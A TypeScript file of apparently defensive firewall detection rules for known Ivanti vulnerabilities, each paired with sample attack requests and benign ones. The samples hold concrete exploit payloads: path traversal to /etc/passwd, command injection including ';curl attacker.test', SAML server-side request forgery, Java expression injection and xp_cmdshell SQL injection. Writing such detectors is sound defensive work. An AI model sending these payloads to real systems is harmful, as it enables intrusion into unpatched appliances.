import { formPost, get, jsonPost, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  decodedUriHas,
  fieldHasShell,
  pathHas,
  pathMatches,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const ivantiRules = [
  detection({
    ref: 'managed-ivanti-pulse-files',
    description:
      'Ivanti Pulse Connect Secure: reads files with a path through a folder of scripts (CVE-2019-11510)',
    categories: ['ivanti', 'directory-traversal', 'information-disclosure', 'cve-2019-11510'],
    expression: allOf(rawPathHas('/dana-na/', '/dana/'), rawPathHas('/../', '..%2f', '%2e%2e')),
    matching: [
      get(
        '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
      ),
      get('/dana-na/..%2fdana/x'),
    ],
    other: [get('/dana-na/auth/url_default/welcome.cgi'), get('/dana/home/index.cgi')],
  }),
  detection({
    ref: 'managed-ivanti-connect-secure-api',
    description:
      'Ivanti Connect Secure: leaves an open path of the API and runs commands (CVE-2023-46805, CVE-2024-21887)',
    categories: [
      'ivanti',
      'authentication-bypass',
      'command-injection',
      'cve-2023-46805',
      'cve-2024-21887',
    ],
    expression: anyOf(
      allOf(
        rawPathHas('/totp/user-backup-code/', '/cav/client/', '/api/v1/configuration/'),
        rawPathHas('../', '..%2f', '%2e%2e'),
      ),
      allOf(
        pathHas('/api/v1/license/keys-status/', '/api/v1/system/maintenance/archiving/'),
        pathMatches('[;|`&]|%3b|%7c|%60|\\$\\('),
      ),
    ),
    matching: [
      get('/api/v1/totp/user-backup-code/../../license/keys-status/%3Bid'),
      jsonPost(
        '/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection',
        { type: ';id;' },
      ),
      get('/api/v1/license/keys-status/;curl%20attacker.test'),
    ],
    other: [get('/api/v1/totp/user-backup-code'), get('/api/v1/license/keys-status/ABC123')],
  }),
  detection({
    ref: 'managed-ivanti-saml-reference',
    description:
      'Ivanti Connect Secure: requests internal pages with a reference in SAML (CVE-2024-21893)',
    categories: ['ivanti', 'ssrf', 'cve-2024-21893'],
    expression: allOf(pathHas('/dana-ws/saml', '/dana-na/auth/saml'), bodyHas('retrievalmethod')),
    matching: [
      xmlPost(
        '/dana-ws/saml20.ws',
        '<soap:Envelope><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/;id;"/></ds:KeyInfo></soap:Envelope>',
      ),
      xmlPost('/dana-ws/saml.ws', '<ds:RetrievalMethod URI="http://attacker.test/"/>'),
    ],
    other: [
      formPost('/dana-na/auth/saml-consumer.cgi', { SAMLResponse: 'PHNhbWw+' }),
      xmlPost('/dana-ws/saml20.ws', '<soap:Envelope/>'),
    ],
  }),
  detection({
    ref: 'managed-ivanti-forwarded-overflow',
    description:
      'Ivanti Connect Secure: overflows a buffer with a list of client addresses (CVE-2025-22457)',
    categories: ['ivanti', 'remote-code-execution', 'header', 'cve-2025-22457'],
    expression: allOf(
      pathHas('/dana-na/', '/dana/', '/dana-cached/'),
      'len(http.x_forwarded_for) gt 400',
    ),
    matching: [
      get('/dana-na/auth/welcome.cgi', { 'x-forwarded-for': '1'.repeat(2000) }),
      get('/dana-cached/x', { 'x-forwarded-for': '1.'.repeat(300) }),
    ],
    other: [
      get('/dana-na/auth/welcome.cgi', { 'x-forwarded-for': '192.0.2.1' }),
      get('/', { 'x-forwarded-for': '1'.repeat(2000) }),
    ],
  }),
  detection({
    ref: 'managed-ivanti-mobile-api',
    description:
      'Ivanti Endpoint Manager Mobile: reaches the API without authentication (CVE-2023-35078, CVE-2023-35082)',
    categories: [
      'ivanti',
      'mobileiron',
      'authentication-bypass',
      'cve-2023-35078',
      'cve-2023-35082',
    ],
    expression: pathHas('/mifs/aad/api/v2/', '/mifs/asfv3/api/v2/'),
    matching: [
      get('/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1'),
      get('/mifs/asfV3/api/v2/admins/users'),
    ],
    other: [get('/mifs/login.jsp'), get('/mifs/rs/api/v2/ping')],
  }),
  detection({
    ref: 'managed-ivanti-mobile-expression',
    description:
      'Ivanti Endpoint Manager Mobile: runs an expression or a command in an argument or path (CVE-2025-4427, CVE-2025-4428, CVE-2026-1281)',
    categories: [
      'ivanti',
      'mobileiron',
      'code-injection',
      'remote-code-execution',
      'cve-2025-4427',
      'cve-2025-4428',
      'cve-2026-1281',
    ],
    expression: allOf(
      pathHas('/mifs/rs/api/v2/', '/mifs/c/'),
      decodedUriHas('${', 'gpath[', '`', '$('),
    ),
    matching: [
      get(
        '/mifs/rs/api/v2/featureusage?format=%24%7B%22%22.getClass().forName(%22java.lang.Runtime%22)%7D',
      ),
      get('/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue,et=1,h=gPath%5B%60id%60%5D/a.ipa'),
    ],
    other: [
      get('/mifs/rs/api/v2/featureusage?format=json'),
      get('/mifs/c/appstore/fob/3/5/app.ipa'),
    ],
  }),
  detection({
    ref: 'managed-ivanti-csa',
    description:
      'Ivanti Cloud Services Appliance: reaches the administration through another script and runs commands (CVE-2024-8190, CVE-2024-8963)',
    categories: [
      'ivanti',
      'directory-traversal',
      'command-injection',
      'cve-2024-8190',
      'cve-2024-8963',
    ],
    expression: anyOf(
      allOf(rawPathHas('/gsb/'), rawPathHas('%3f.php/')),
      allOf(pathHas('/gsb/datetime.php', '/gsb/reports.php'), fieldHasShell('TIMEZONE', 'TW_ID')),
    ),
    matching: [
      get('/client/index.php%3f.php/gsb/users.php'),
      formPost('/gsb/datetime.php', { dateTimeFormSubmitted: '1', TIMEZONE: ';id;' }),
    ],
    other: [get('/gsb/users.php'), formPost('/gsb/datetime.php', { TIMEZONE: 'Europe/Berlin' })],
  }),
  detection({
    ref: 'managed-ivanti-sentry',
    description:
      'Ivanti Sentry: runs commands with the service of the administration (CVE-2023-38035)',
    categories: [
      'ivanti',
      'mobileiron',
      'authentication-bypass',
      'command-injection',
      'cve-2023-38035',
    ],
    expression: pathHas('/mics/services/micslogservice'),
    matching: [
      send('POST', '/mics/services/MICSLogService', 'application/octet-stream', 'c\u0000\u0001'),
      get('/mics/services/MICSLogService'),
    ],
    other: [get('/mics/login.jsp'), get('/mics/services/')],
  }),
  detection({
    ref: 'managed-ivanti-epm-sql',
    description: 'Ivanti Endpoint Manager: SQL in the status of an agent (CVE-2024-29824)',
    categories: ['ivanti', 'sql-injection', 'remote-code-execution', 'cve-2024-29824'],
    expression: allOf(
      pathHas('/wsstatusevents/eventhandler.asmx'),
      bodyHas("';", "' or ", 'xp_cmdshell', '--'),
    ),
    matching: [
      xmlPost(
        '/WSStatusEvents/EventHandler.asmx',
        "<Update><goid>x'; EXEC xp_cmdshell 'id'--</goid></Update>",
      ),
      xmlPost(
        '/WSStatusEvents/EventHandler.asmx',
        "<UpdateStatusEvents><goid>1' or 1=1</goid></UpdateStatusEvents>",
      ),
    ],
    other: [
      xmlPost(
        '/WSStatusEvents/EventHandler.asmx',
        '<UpdateStatusEvents><goid>{1-2-3}</goid></UpdateStatusEvents>',
      ),
      get('/WSStatusEvents/EventHandler.asmx'),
    ],
  }),
];
